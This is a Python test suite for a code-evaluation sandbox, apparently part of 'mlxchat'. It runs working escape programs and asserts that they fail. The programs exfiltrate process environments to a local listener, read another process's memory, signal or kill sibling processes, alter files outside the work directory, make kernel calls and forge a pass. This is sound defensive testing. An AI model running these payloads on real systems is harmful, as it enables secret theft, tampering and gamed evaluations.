"""Hostile programs against the sandbox, each one an escape that was reproduced on the
unsandboxed machine (issue 15) or one of our own. Where it can be done harmlessly, the same
program is first run *without* the sandbox to show the attack is real here; in the sandbox it
must end failed/timeout with nothing leaked, signalled or changed outside its work directory.

Escapes through files outside run twice: with every layer, where those files do not even
exist for the program, and with `namespaces=False`, where they are in sight and the uid drop,
Landlock and seccomp must hold on their own."""

import ctypes
import os
import platform
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

import pytest

from mlxchat.evaluation.sandbox import clear_locking_flags, remove_tree, run_program

pytestmark = pytest.mark.skipif(
    sys.platform != "linux" or platform.machine() not in ("x86_64", "aarch64"),
    reason="the escapes are Linux system calls on x86-64/aarch64",
)
ARCH = 0 if platform.machine() == "x86_64" else 1
NR = {
    "rt_sigqueueinfo": (129, 138), "pidfd_open": (434, 434), "pidfd_send_signal": (424, 424),
    "process_vm_readv": (310, 270), "ptrace": (101, 117), "reboot": (169, 142), "settimeofday": (164, 170),
    "umount2": (166, 39), "bpf": (321, 280), "unshare": (272, 97), "mount": (165, 40), "clone3": (435, 435),
    "perf_event_open": (298, 241), "socket": (41, 198), "kill": (62, 129), "memfd_create": (319, 279),
    "fchmodat": (268, 53),
}
# Every hostile program starts with this: raw system calls through ctypes, past any Python guard.
PRELUDE = f"""
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR = {{name: numbers[{ARCH}] for name, numbers in {NR!r}.items()}}
def call(name, *args):
    result = libc.syscall(NR[name], *args)
    assert result >= 0, f"{{name}}: {{os.strerror(ctypes.get_errno())}}"
    return result
"""
WITH_AND_WITHOUT_NAMESPACES = pytest.mark.parametrize("namespaces", [True, False], ids=["all-layers", "no-namespaces"])


def plain(code: str, **kwargs) -> subprocess.CompletedProcess:
    """The hostile program run without any sandbox, to show its attack works on this machine."""
    return subprocess.run([sys.executable, "-c", PRELUDE + code], capture_output=True, text=True, timeout=60, **kwargs)


def hostile(code: str, **kwargs):
    result = run_program(PRELUDE + code, **kwargs)
    assert result.status in ("failed", "timeout"), (result.status, result.stdout, result.stderr)
    return result


@pytest.fixture
def sibling():
    """An unrelated process of the evaluator's user, with a secret in its environment."""
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"],
                            env={"SIBLING_SECRET": "hunter2-sibling"})
    yield proc
    proc.kill()
    proc.wait()


@pytest.fixture
def listener():
    """A TCP listener on 127.0.0.1 that records whatever reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    received = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                received.append(conn.recv(1000))
            except OSError:
                received.append(b"<connected>")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


# -- the network ----------------------------------------------------------------------------

IO_URING_CONNECT = """
import mmap, socket
PORT = {port}
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, params)  # io_uring_setup
assert ring >= 0, f"io_uring_setup: {{os.strerror(ctypes.get_errno())}}"
sq_entries, cq_entries = struct.unpack_from("II", params, 0)
sq_off = struct.unpack_from("IIIIIII", params, 40)
cq_off = struct.unpack_from("IIIIII", params, 80)
sq = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
cq = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
def submit(opcode, fd, off, addr, length):
    tail = struct.unpack_from("I", sq, sq_off[1])[0]
    idx = tail & struct.unpack_from("I", sq, sq_off[2])[0]
    sqe = bytearray(64)
    struct.pack_into("BBHiQQI", sqe, 0, opcode, 0, 0, fd, off, addr, length)
    sqes[idx * 64:(idx + 1) * 64] = bytes(sqe)
    struct.pack_into("I", sq, sq_off[6] + 4 * idx, idx)
    struct.pack_into("I", sq, sq_off[1], tail + 1)
    assert libc.syscall(426, ring, 1, 1, 1, None, 0) >= 0, os.strerror(ctypes.get_errno())
    head = struct.unpack_from("I", cq, cq_off[0])[0]
    res = struct.unpack_from("i", cq, cq_off[5] + 16 * (head & struct.unpack_from("I", cq, cq_off[2])[0]) + 8)[0]
    struct.pack_into("I", cq, cq_off[0], head + 1)
    return res
sock = submit(45, socket.AF_INET, socket.SOCK_STREAM, 0, 0)  # IORING_OP_SOCKET
assert sock >= 0, f"IORING_OP_SOCKET: {{os.strerror(-sock)}}"
addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", PORT, socket.inet_aton("127.0.0.1")))
res = submit(16, sock, 16, ctypes.addressof(addr), 0)  # IORING_OP_CONNECT
assert res == 0, f"IORING_OP_CONNECT: {{os.strerror(-res)}}"
os.write(sock, b"stolen " + open("/proc/%d/environ" % os.getppid(), "rb").read())
"""


def test_io_uring_socket_and_connect_reach_nothing(listener):
    port, received = listener
    attack = IO_URING_CONNECT.format(port=port)
    if plain(attack, env={**os.environ, "HF_TOKEN": "hf_plain"}).returncode == 0:  # io_uring enabled here
        deadline = time.monotonic() + 5
        while not received and time.monotonic() < deadline:
            time.sleep(0.05)
        assert received and received[0].startswith(b"stolen")
        received.clear()
    r = hostile(attack)
    assert "io_uring_setup: Operation not permitted" in r.stderr
    time.sleep(0.3)
    assert received == []


def test_sockets_by_raw_syscall_and_abstract_unix_are_refused(listener):
    port, received = listener
    r = hostile(f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("127.0.0.1", {port}))
""")
    assert "Operation not permitted" in r.stderr
    r = hostile("call('socket', 2, 1, 0)")  # AF_INET, SOCK_STREAM
    assert "socket: Operation not permitted" in r.stderr
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("\0mlxchat-test-abstract")
    server.listen(1)
    try:
        hostile("import socket\nsocket.socket(socket.AF_UNIX).connect('\\0mlxchat-test-abstract')")
    finally:
        server.close()
    assert received == []


# -- other processes' environments and memory ------------------------------------------------

def test_the_evaluators_and_a_siblings_environ_are_out_of_sight(monkeypatch, sibling):
    monkeypatch.setenv("HF_TOKEN", "hf_secret_of_the_evaluator")
    reads = [f"open('/proc/{pid}/environ', 'rb').read()" for pid in (os.getpid(), sibling.pid)]
    reads.append("open('/proc/%d/environ' % os.getppid(), 'rb').read()")
    reads.append("b''.join(open(f'/proc/{p}/environ', 'rb').read() for p in os.listdir('/proc') if p.isdigit())")
    proof = plain(f"print({reads[1]})")
    assert "hunter2-sibling" in proof.stdout  # readable to an unsandboxed program of this user
    for read in reads:
        r = run_program(f"secret = {read}\nprint(secret)\nassert b'hf_secret' in secret or b'hunter2' in secret")
        assert r.status == "failed", (read, r.stdout)
        assert "hf_secret" not in r.stdout + r.stderr and "hunter2" not in r.stdout + r.stderr
    r = run_program("import os\nprint(sorted(p for p in os.listdir('/proc') if p.isdigit()), dict(os.environ))")
    assert r.passed
    assert r.stdout.startswith("['1']") or r.layers["fresh /proc"]  # only itself, PID 1
    assert "HF_TOKEN" not in r.stdout and "LD_PRELOAD" not in r.stdout


def test_the_evaluators_memory_cannot_be_read():
    secret = ctypes.create_string_buffer(b"hf_secret_in_memory")
    hostile(f"""
buf = ctypes.create_string_buffer(32)
local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 32)
remote = (ctypes.c_void_p * 2)({ctypes.addressof(secret)}, 32)
call("process_vm_readv", {os.getpid()}, local, 1, remote, 1, 0)
print(buf.value)
""")
    hostile(f"call('ptrace', 16, {os.getpid()}, 0, 0)")  # PTRACE_ATTACH
    hostile(f"open('/proc/{os.getpid()}/mem', 'rb')")


def test_a_secret_file_of_the_evaluator_cannot_be_read(tmp_path):
    token = tmp_path / "token"
    token.write_text("hf_on_disk")
    token.chmod(0o644)
    for namespaces in (True, False):
        r = run_program(f"print(open({str(token)!r}).read())", namespaces=namespaces)
        if namespaces or r.layers["unprivileged uid"] is None:
            assert r.status == "failed" and "hf_on_disk" not in r.stdout


# -- signals ---------------------------------------------------------------------------------

SIGQUEUE = """
info = ctypes.create_string_buffer(128)
struct.pack_into("iii", info, 0, {sig}, 0, -1)  # si_signo, si_errno, si_code = SI_QUEUE
call("rt_sigqueueinfo", {pid}, {sig}, info)
"""
PIDFD_KILL = """
fd = call("pidfd_open", {pid}, 0)
call("pidfd_send_signal", fd, {sig}, None, 0)
"""
SIGIO = """
import fcntl
r, w = os.pipe()
fcntl.fcntl(r, fcntl.F_SETOWN, {pid})
fcntl.fcntl(r, fcntl.F_SETSIG, {sig})
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(w, b"x")
"""


@pytest.fixture
def evaluator_signals():
    """Signals reaching this (the evaluator's) process, recorded instead of acted on."""
    got = []
    old = {s: signal.signal(s, lambda n, _f: got.append(n)) for s in (signal.SIGUSR1, signal.SIGUSR2)}
    yield got
    time.sleep(0.2)
    for s, handler in old.items():
        signal.signal(s, handler)


@pytest.mark.parametrize("attack, proven", [
    (SIGQUEUE, True), (PIDFD_KILL, True), (SIGIO, True), ("call('kill', {pid}, {sig})", True),
    # at the whole group / every process: signal 0, a probe, so that a broken sandbox harms nobody
    ("call('kill', 0, 0)", False), ("call('kill', -1, 0)", False),
], ids=["rt_sigqueueinfo", "pidfd_send_signal", "fcntl-SIGIO", "kill", "kill-group", "kill-all"])
def test_signals_reach_neither_the_evaluator_nor_a_sibling(attack, proven, evaluator_signals):
    victims = [subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"]) for _ in range(2)]
    try:
        if proven:  # unsandboxed, the attack kills a process without a SIGUSR1 handler
            probe = plain(attack.format(pid=victims[0].pid, sig=int(signal.SIGUSR1)))
            assert probe.returncode == 0 and victims[0].wait(timeout=10) == -signal.SIGUSR1, probe.stderr
        hostile(attack.format(pid=os.getpid(), sig=int(signal.SIGUSR1)))
        hostile(attack.format(pid=victims[1].pid, sig=int(signal.SIGKILL)))
        time.sleep(0.2)
        assert victims[1].poll() is None  # the sibling lives
        assert evaluator_signals == []  # the evaluator heard nothing
    finally:
        for victim in victims:
            victim.kill()
            victim.wait()


# -- files outside the work directory --------------------------------------------------------

def _snapshot(path):
    st = os.stat(path)
    return st.st_mode, st.st_uid, st.st_gid, st.st_mtime_ns, os.listxattr(path), _flags(path), path.read_bytes()


def _flags(path) -> int:
    import fcntl

    fd = os.open(path, os.O_RDONLY)
    try:
        buf = bytearray(8)
        fcntl.ioctl(fd, 0x80086601, buf)  # FS_IOC_GETFLAGS
        return int.from_bytes(buf[:4], "little")
    except OSError:
        return -1
    finally:
        os.close(fd)


METADATA_ATTACKS = {
    "chmod": "import posix\nposix.chmod({path!r}, 0o777)",
    "fchmodat": "call('fchmodat', -100, {path!r}.encode(), 0o777)",
    "chown": "import posix\nposix.chown({path!r}, 1234, 1234)",
    "utime": "import posix\nposix.utime({path!r}, (0, 0))",
    "setxattr": "import posix\nposix.setxattr({path!r}, 'user.owned', b'1')",
    "immutable": "import fcntl\nfd = os.open({path!r}, os.O_RDONLY)\nfcntl.ioctl(fd, 0x40086602, struct.pack('i', 0x10))",
    "truncate": "import posix\nposix.truncate({path!r}, 0)",
    "unlink": "import posix\nposix.unlink({path!r})",
}


@WITH_AND_WITHOUT_NAMESPACES
@pytest.mark.parametrize("name", list(METADATA_ATTACKS))
def test_files_outside_keep_their_contents_and_metadata(name, namespaces, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    before = _snapshot(victim)
    hostile(METADATA_ATTACKS[name].format(path=str(victim)), namespaces=namespaces)
    assert _snapshot(victim) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["victim.txt"]


def test_metadata_attacks_work_unsandboxed(tmp_path):
    """What the sandbox stops is real on this machine: each changes the file when run plainly."""
    for name in ("chmod", "utime", "setxattr", "immutable"):
        victim = tmp_path / f"{name}.txt"
        victim.write_text("x")
        before = _snapshot(victim)
        proof = plain(METADATA_ATTACKS[name].format(path=str(victim)))
        if proof.returncode != 0 and name in ("setxattr", "immutable"):
            continue  # this filesystem has no user xattrs / flags
        assert proof.returncode == 0 and _snapshot(victim) != before, (name, proof.stderr)
        clear_locking_flags(str(victim))  # so that pytest can remove it


def test_an_immutable_file_inside_the_work_directory_does_not_outlive_it():
    r = hostile("""
import fcntl, tempfile
open("stuck.txt", "w").write("x")
fd = os.open("stuck.txt", os.O_RDONLY)
fcntl.ioctl(fd, 0x40086602, struct.pack("i", 0x10))  # FS_IOC_SETFLAGS, FS_IMMUTABLE_FL
print(os.getcwd())
""")
    assert r.leftover == ()
    assert not [p for p in os.listdir(tempfile.gettempdir()) if p.startswith("mlxchat-sandbox-")
                and os.path.exists(os.path.join(tempfile.gettempdir(), p, "work", "stuck.txt"))]


def test_cleanup_removes_what_a_program_left_locked_and_reports_what_it_cannot(tmp_path, monkeypatch):
    """Even where the sandbox could not stop it (no kernel layers), cleanup clears flags and
    modes; what still cannot go is reported, not silently left."""
    base = tmp_path / "mlxchat-sandbox-x"
    (base / "work" / "locked").mkdir(parents=True)
    (base / "work" / "locked" / "f").write_text("x")
    (base / "work" / "locked").chmod(0)
    immutable = base / "work" / "immutable.txt"
    immutable.write_text("x")
    subprocess.run([sys.executable, "-c", PRELUDE + METADATA_ATTACKS["immutable"].format(path=str(immutable))])
    assert remove_tree(base) == ()
    assert not base.exists()
    fake = tmp_path / "not-removable"
    fake.mkdir()
    (fake / "f").write_text("x")
    import shutil

    monkeypatch.setattr(shutil, "rmtree", lambda *a, **k: None)  # a filesystem that refuses every removal
    left = remove_tree(fake)
    assert left == (str(fake), str(fake / "f"))


# -- disk ------------------------------------------------------------------------------------

def test_writing_without_end_fills_a_bounded_work_directory_not_the_disk():
    r = run_program("""
import os
chunk = b"x" * (1 << 20)
for i in range(10_000):
    with open(f"f{i}", "wb") as f:
        f.write(chunk)
""", disk_mb=8, output_mb=4)
    if r.layers["disk bound"]:
        pytest.skip(f"no total disk bound here: {r.layers['disk bound']}")
    assert r.status == "failed" and "No space left on device" in r.stderr
    r = run_program("import os\nfor i in range(100_000):\n    os.mkdir(f'd{i}')", disk_mb=8)
    assert r.status == "failed" and "No space left on device" in r.stderr  # inodes are bounded too


# -- the verdict -----------------------------------------------------------------------------

@pytest.mark.parametrize("exit_early", [
    "import posix\nposix._exit(0)",
    "libc._exit(0)",
    "call('kill', os.getpid(), 9)",
    # forge the harness's report: write plausible lines to every descriptor it might read
    "for fd in range(3, 64):\n    try:\n        os.write(fd, b'{}\\n' + b'0' * 32 + b'\\n')\n    except OSError:\n        pass\n"
    "import posix\nposix._exit(0)",
    # read whatever descriptor the harness might have been handed its token on, echo it back
    "for fd in range(3, 64):\n    try:\n        data = os.read(fd, 64)\n    except OSError:\n        continue\n"
    "    for out in range(3, 64):\n        try:\n            os.write(out, data + b'\\n')\n        except OSError:\n            pass\n"
    "import posix\nposix._exit(0)",
], ids=["posix._exit", "libc._exit", "SIGKILL-self", "forged-report", "echoed-fds"])
def test_stopping_before_a_failing_assert_is_not_a_pass(exit_early):
    r = run_program(PRELUDE + "def check(x):\n    assert x == 2\n" + exit_early + "\ncheck(1)\n")
    assert r.status in ("failed", "error"), (r.status, r.stderr)
    if "_exit(0)" in exit_early:  # exit status 0: only the missing token tells
        assert "stopped before its end" in r.stderr
    assert run_program(PRELUDE + "def check(x):\n    assert x == 2\ncheck(2)\n").passed


# -- the kernel itself -----------------------------------------------------------------------

@pytest.mark.parametrize("attack", [
    "call('reboot', 0, 0, 0, 0)",  # wrong magic: EINVAL if it reached the kernel's reboot
    "call('settimeofday', None, None)",
    "call('umount2', b'/', 0)",
    "call('bpf', 0, None, 0)",
    "call('mount', b'none', b'/', b'tmpfs', 0, None)",
    "call('unshare', 0x10000000)",
    "call('clone3', None, 0)",
    "call('perf_event_open', None, 0, -1, -1, 0)",
    "fd = call('memfd_create', b'x', 0)",
    "import fcntl, termios\nfcntl.ioctl(0, termios.TIOCSTI, b'x')",
], ids=["reboot", "settimeofday", "umount2", "bpf", "mount", "unshare", "clone3", "perf_event_open",
        "memfd_create", "TIOCSTI"])
def test_calls_outside_the_allow_list_fail_before_their_arguments_are_read(attack):
    r = hostile(attack)
    assert "Operation not permitted" in r.stderr, r.stderr


# -- what the kernel offers is in force ------------------------------------------------------

def _landlock_abi() -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(444, None, 0, 1)


def _user_namespaces_work() -> bool:
    """Asked of a bare interpreter: a preloaded threaded library (OpenBLAS) makes unshare fail."""
    probe = subprocess.run([sys.executable, "-I", "-c", "import ctypes, sys\n"
                            "sys.exit(ctypes.CDLL(None).unshare(0x10000000 | 0x20000000 | 0x40000000 | 0x20000))"],
                           env={"PATH": os.defpath})
    return probe.returncode == 0


def test_every_layer_this_kernel_offers_is_in_force():
    layers = run_program("pass").layers
    abi = _landlock_abi()
    offered = {
        "seccomp": True,
        "Landlock filesystem": abi >= 1,
        "Landlock network": abi >= 4,
        "Landlock scoping": abi >= 6,
        "namespaces": _user_namespaces_work(),
    }
    for name in ("read-only root", "disk bound", "unprivileged uid"):
        offered[name] = offered["namespaces"]
    for name, available in offered.items():
        if available:
            assert layers[name] is None, (name, layers[name])
        else:
            assert layers[name], name  # a layer not in force says why
    if os.geteuid() == 0 and offered["namespaces"]:
        r = run_program("import os\nprint(open('/proc/self/uid_map').read().split())")
        assert r.stdout.split("\n")[0] == "['0', '65534', '1']"  # root's namespace is nobody outside
